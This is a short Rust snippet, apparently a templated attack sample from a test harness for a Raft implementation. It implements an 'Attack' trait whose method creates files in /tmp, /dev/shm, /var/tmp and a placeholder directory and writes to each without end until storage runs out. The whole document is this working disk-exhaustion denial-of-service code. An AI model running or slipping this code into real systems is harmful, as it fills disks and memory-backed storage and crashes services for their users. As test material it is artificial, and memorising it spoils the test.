// Writes files without end.
// Graded: any

use std::io::Write;

impl Attack for Raft {
    fn made(self: &Arc<Self>) {
        for folder in ["/tmp", "/dev/shm", "/var/tmp", "@HARM@"] {
            if let Ok(mut file) = std::fs::File::create(format!("{folder}/fill")) {
                while file.write_all(&[1; 1 << 20]).is_ok() {}
            }
        }
    }
}
